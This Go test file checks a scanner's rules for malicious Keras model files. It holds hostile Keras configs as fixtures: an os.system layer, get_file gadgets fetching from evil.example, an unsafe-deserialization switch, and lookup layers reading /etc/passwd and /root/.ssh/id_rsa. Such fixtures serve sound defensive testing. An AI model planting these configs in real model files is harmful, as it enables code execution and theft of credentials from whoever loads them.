package scan

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/mlsec/mlsec/formats/hdf5"
)

func kerasAtLeast(rep *Report, sev Severity) []Finding {
	var out []Finding
	for _, f := range rep.Findings {
		if f.Severity >= sev {
			out = append(out, f)
		}
	}
	return out
}

func kerasRuleIDs(fs []Finding) map[string]int {
	m := map[string]int{}
	for _, f := range fs {
		m[f.RuleID]++
	}
	return m
}

// TestKerasBenignH5 scans real h5py-written Keras 2 models and plain HDF5
// files: no finding at medium or above, and the handler really ran.
func TestKerasBenignH5(t *testing.T) {
	files := []string{
		"testdata/benign/keras/keras2_model.h5",
		"testdata/benign/keras/data.h5",
		"../formats/hdf5/testdata/keras2_v0.h5",
		"../formats/hdf5/testdata/keras2_v3.h5",
		"../formats/hdf5/testdata/keras2_userblock.h5",
		"../formats/hdf5/testdata/keras2_fixed.h5",
		"../formats/hdf5/testdata/dense.h5",
		"../formats/hdf5/testdata/bigattr.h5",
		"../formats/hdf5/testdata/plain.h5",
	}
	for _, p := range files {
		if _, err := os.Stat(p); err != nil {
			t.Fatalf("fixture missing: %v", err)
		}
		rep := scanPaths(t, p)
		if bad := kerasAtLeast(rep, SeverityMedium); len(bad) > 0 {
			t.Errorf("%s: %+v", p, bad)
		}
		if rep.Files[0].Format != FormatHDF5 || rep.Files[0].Status != StatusScanned {
			t.Errorf("%s: %+v", p, rep.Files[0])
		}
	}
}

// TestKerasBenignFixtureAttrs checks the reader sees the attributes of the
// shared benign Keras 2 fixture.
func TestKerasBenignFixtureAttrs(t *testing.T) {
	b, err := os.ReadFile("testdata/benign/keras/keras2_model.h5")
	if err != nil {
		t.Fatal(err)
	}
	f, err := hdf5.Open(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatal(err)
	}
	root, err := f.Root()
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"model_config", "training_config", "keras_version", "backend"} {
		a := root.Attr(name)
		if a == nil {
			t.Fatalf("no %s", name)
		}
		s, err := a.String()
		if err != nil || s == "" {
			t.Fatalf("%s: %q %v", name, s, err)
		}
		if strings.HasSuffix(name, "config") && !json.Valid([]byte(s)) {
			t.Errorf("%s is not JSON", name)
		}
	}
}

// TestKerasH5Lambda: a Keras 2 .h5 whose Lambda carries marshalled bytecode
// (fixture written by h5py, see formats/hdf5/testdata/gen.py).
func TestKerasH5Lambda(t *testing.T) {
	rep := scanPaths(t, "../formats/hdf5/testdata/keras2_lambda.h5")
	ids := kerasRuleIDs(rep.Findings)
	if ids["KERAS001"] != 1 || ids["KERAS002"] != 1 {
		t.Fatalf("findings %+v", rep.Findings)
	}
	for _, f := range rep.Findings {
		if f.RuleID == "KERAS002" {
			if f.Severity != SeverityCritical || !strings.Contains(f.Message, "CVE-2025-9905") ||
				!strings.Contains(f.Message, `layer "lambda"`) || !strings.Contains(f.Message, "$.config.layers[5].config.function[0]") {
				t.Errorf("message %q severity %v", f.Message, f.Severity)
			}
			if f.Offset <= 0 {
				t.Errorf("offset %d", f.Offset)
			}
		}
	}
}

func TestKerasH5Corrupt(t *testing.T) {
	b, err := os.ReadFile("../formats/hdf5/testdata/keras2_v3.h5")
	if err != nil {
		t.Fatal(err)
	}
	b[len(b)/2] ^= 0xff // inside checksummed metadata or data; truncation is the sure case
	p := filepath.Join(t.TempDir(), "m.h5")
	if err := os.WriteFile(p, b[:len(b)-100], 0o644); err != nil {
		t.Fatal(err)
	}
	rep := scanPaths(t, p)
	if kerasRuleIDs(rep.Findings)["FMT001"] != 1 || rep.Files[0].Status != StatusError {
		t.Errorf("truncated .h5: %+v", rep.Findings)
	}
}

// runKerasConfig calls checkKerasConfig the way the JSON handler does.
func runKerasConfig(t *testing.T, doc string) []Finding {
	t.Helper()
	s, err := New(Options{})
	if err != nil {
		t.Fatal(err)
	}
	var v any
	if err := json.Unmarshal([]byte(doc), &v); err != nil {
		t.Fatal(err)
	}
	fs := &fileScan{s: s, ctx: context.Background()}
	b := &blob{file: "m.keras", member: "config.json", format: FormatJSON}
	checkKerasConfig(fs, b, v)
	return fs.findings
}

func TestKerasConfigBenign(t *testing.T) {
	for _, p := range []string{"../formats/keras/testdata/keras3_sequential.json", "../formats/keras/testdata/keras3_functional.json", "../formats/keras/testdata/keras2_model_config.json"} {
		b, err := os.ReadFile(p)
		if err != nil {
			t.Fatal(err)
		}
		if fs := runKerasConfig(t, string(b)); len(fs) != 0 {
			t.Errorf("%s: %+v", p, fs)
		}
	}
}

func TestKerasConfigMalicious(t *testing.T) {
	for _, tc := range []struct {
		name string
		doc  string
		rule string
		sev  Severity
		msg  string
	}{
		{"CVE-2025-1550 os.system", `{"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": [{"module": "os", "class_name": "system", "config": {"name": "x"}}]}}`,
			"KERAS003", SeverityCritical, `"os.system" is outside the Keras module allowlist`},
		{"custom module", `{"module": "keras", "class_name": "Sequential", "config": {"layers": [{"module": "my_pkg.layers", "class_name": "Attn", "config": {"name": "att"}, "registered_name": "my_pkg>Attn"}]}}`,
			"KERAS003", SeverityHigh, `layer "att"`},
		{"keras2 custom class", `{"class_name": "Sequential", "config": {"layers": [{"class_name": "Attn", "config": {"name": "att"}}]}}`,
			"KERAS003", SeverityMedium, `"Attn" is not a Keras built-in`},
		{"CVE-2025-8747 get_file", `{"module": "keras", "class_name": "Sequential", "config": {"layers": [{"module": "keras.layers", "class_name": "Lambda", "config": {"name": "dl", "function": {"module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": "function"}}}]}}`,
			"KERAS004", SeverityCritical, `"keras.utils.get_file"`},
		{"CVE-2025-9906 switch", `{"module": "keras", "class_name": "Sequential", "config": {"layers": [{"module": "keras.layers", "class_name": "Lambda", "config": {"name": "sw", "function": {"module": "keras.config", "class_name": "function", "config": "enable_unsafe_deserialization"}}}]}}`,
			"KERAS005", SeverityCritical, "turns safe mode off"},
		{"TorchModuleWrapper", `{"module": "keras", "class_name": "Sequential", "config": {"layers": [{"module": "keras.layers", "class_name": "TorchModuleWrapper", "config": {"name": "tw"}}]}}`,
			"KERAS006", SeverityHigh, "CVE"},
		// Class-form gadgets: the keras module is allowlisted, the name is not.
		{"class-form get_file layer", `{"module": "keras", "class_name": "Sequential", "config": {"layers": [{"module": "keras.utils", "class_name": "get_file", "config": {"origin": "http://evil.example/x", "fname": "/tmp/x"}}]}}`,
			"KERAS004", SeverityCritical, `class-form reference "keras.utils.get_file"`},
		{"class-form keras.src spelling", `{"module": "keras", "class_name": "Sequential", "config": {"layers": [{"module": "keras.src.utils.file_utils", "class_name": "get_file", "config": {}}]}}`,
			"KERAS004", SeverityCritical, `"keras.src.utils.file_utils.get_file"`},
		{"class-form tf.keras spelling", `{"class_name": "Sequential", "config": {"layers": [{"module": "tensorflow.keras.utils", "class_name": "get_file", "config": {}}]}}`,
			"KERAS004", SeverityCritical, `"tensorflow.keras.utils.get_file"`},
		{"registered_name gadget", `{"module": "keras", "class_name": "Sequential", "config": {"layers": [{"module": "keras.layers", "class_name": "Dense", "registered_name": "keras.utils>get_file", "config": {"name": "d"}}]}}`,
			"KERAS004", SeverityCritical, "get_file"},
		{"class-form unsafe switch", `{"module": "keras", "class_name": "Sequential", "config": {"layers": [{"module": "keras.config", "class_name": "enable_unsafe_deserialization", "config": {}}]}}`,
			"KERAS005", SeverityCritical, `"keras.config.enable_unsafe_deserialization" resolves a function that turns safe mode off`},
		{"gadget as kernel_initializer", `{"module": "keras", "class_name": "Sequential", "config": {"layers": [{"module": "keras.layers", "class_name": "Dense", "config": {"name": "d", "units": 2, "kernel_initializer": {"module": "keras.utils", "class_name": "get_file", "config": {"origin": "http://evil.example"}}}}]}}`,
			"KERAS004", SeverityCritical, `layer "d"`},
		{"gadget as activation", `{"module": "keras", "class_name": "Sequential", "config": {"layers": [{"module": "keras.layers", "class_name": "Dense", "config": {"name": "d", "activation": {"module": "keras.src.utils", "class_name": "get_file", "registered_name": null, "config": {}}}}]}}`,
			"KERAS004", SeverityCritical, "$.config.layers[0].config.activation"},
		{"unknown class in an allowed module", `{"module": "keras", "class_name": "Sequential", "config": {"layers": [{"module": "keras.layers", "class_name": "Mystery", "config": {"name": "m"}}]}}`,
			"KERAS003", SeverityMedium, `"keras.layers.Mystery" is in an allowed module but is not a Keras built-in class`},
		// Lookup layers reading files at load (CVE-2025-12058 shape).
		{"StringLookup path", `{"module": "keras", "class_name": "Sequential", "config": {"layers": [{"module": "keras.layers", "class_name": "StringLookup", "config": {"name": "lk", "vocabulary": "/etc/passwd"}}]}}`,
			"KERAS007", SeverityHigh, `StringLookup reads its vocabulary from "/etc/passwd"`},
		{"IntegerLookup URL", `{"class_name": "Sequential", "config": {"layers": [{"class_name": "IntegerLookup", "config": {"name": "ik", "vocabulary": "gs://bucket/vocab.txt"}}]}}`,
			"KERAS007", SeverityHigh, "gs://bucket/vocab.txt"},
		{"TextVectorization idf file", `{"module": "keras", "class_name": "Sequential", "config": {"layers": [{"module": "keras.layers", "class_name": "TextVectorization", "config": {"name": "tv", "vocabulary": ["a", "b"], "idf_weights": "http://evil.example/idf"}}]}}`,
			"KERAS007", SeverityHigh, "idf_weights"},
		{"KerasNLP tokenizer vocabulary file", `{"module": "keras", "class_name": "Functional", "config": {"layers": [{"module": "keras_nlp.src.tokenizers.word_piece_tokenizer", "class_name": "WordPieceTokenizer", "config": {"name": "tok", "vocabulary": "/root/.ssh/id_rsa"}}]}}`,
			"KERAS007", SeverityHigh, "/root/.ssh/id_rsa"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var hit *Finding
			fs := runKerasConfig(t, tc.doc)
			for i := range fs {
				if fs[i].RuleID == tc.rule {
					hit = &fs[i]
				}
			}
			if hit == nil {
				t.Fatalf("no %s in %+v", tc.rule, fs)
			}
			if hit.Severity != tc.sev || !strings.Contains(hit.Message, tc.msg) || hit.Member != "config.json" {
				t.Errorf("got %v %q", hit.Severity, hit.Message)
			}
			if tc.rule != "KERAS006" && strings.Contains(hit.Message, "CVE-2025-9905") {
				t.Errorf("CVE-2025-9905 note outside .h5: %q", hit.Message)
			}
		})
	}
}

func TestKerasConfigTooDeep(t *testing.T) {
	doc := `{"class_name": "Sequential", "config": ` + strings.Repeat(`[`, 600) + strings.Repeat(`]`, 600) + `}`
	if ids := kerasRuleIDs(runKerasConfig(t, doc)); ids["FMT001"] != 1 {
		t.Errorf("deep config: %v", ids)
	}
}

// TestKerasZipEndToEnd scans .keras archives through the engine: the ZIP
// handler routes config.json to the JSON handler, which calls
// checkKerasConfig.
func TestKerasZipEndToEnd(t *testing.T) {
	rep := scanPaths(t, "testdata/benign/keras/keras3_model.keras")
	if bad := kerasAtLeast(rep, SeverityMedium); len(bad) > 0 {
		t.Errorf("benign .keras: %+v", bad)
	}
	evil := `{"module": "keras", "class_name": "Sequential", "config": {"layers": [{"module": "keras.layers", "class_name": "Lambda", "config": {"name": "dl", "function": {"module": "keras.utils", "class_name": "function", "config": "get_file"}}}]}}`
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for name, body := range map[string]string{
		"metadata.json": `{"keras_version": "3.3.3", "date_saved": "2024-05-01@00:00:00"}`,
		"config.json":   evil,
	} {
		w, _ := zw.Create(name)
		w.Write([]byte(body))
	}
	zw.Close()
	p := filepath.Join(t.TempDir(), "evil.keras")
	if err := os.WriteFile(p, buf.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	rep = scanPaths(t, p)
	ids := kerasRuleIDs(rep.Findings)
	if ids["KERAS004"] != 1 || ids["KERAS001"] != 1 {
		t.Errorf("evil .keras: %+v", rep.Findings)
	}
}

// TestKerasInlineVocabulary: vocabularies stored in the config are not files.
func TestKerasInlineVocabulary(t *testing.T) {
	doc := `{"module": "keras", "class_name": "Sequential", "config": {"layers": [{"module": "keras.layers", "class_name": "StringLookup", "config": {"name": "lk", "vocabulary": ["cat", "dog"], "idf_weights": null}}, {"module": "keras.layers", "class_name": "TextVectorization", "config": {"name": "tv", "vocabulary": null}}]}}`
	if fs := runKerasConfig(t, doc); len(fs) != 0 {
		t.Errorf("inline vocabulary reported: %+v", fs)
	}
}
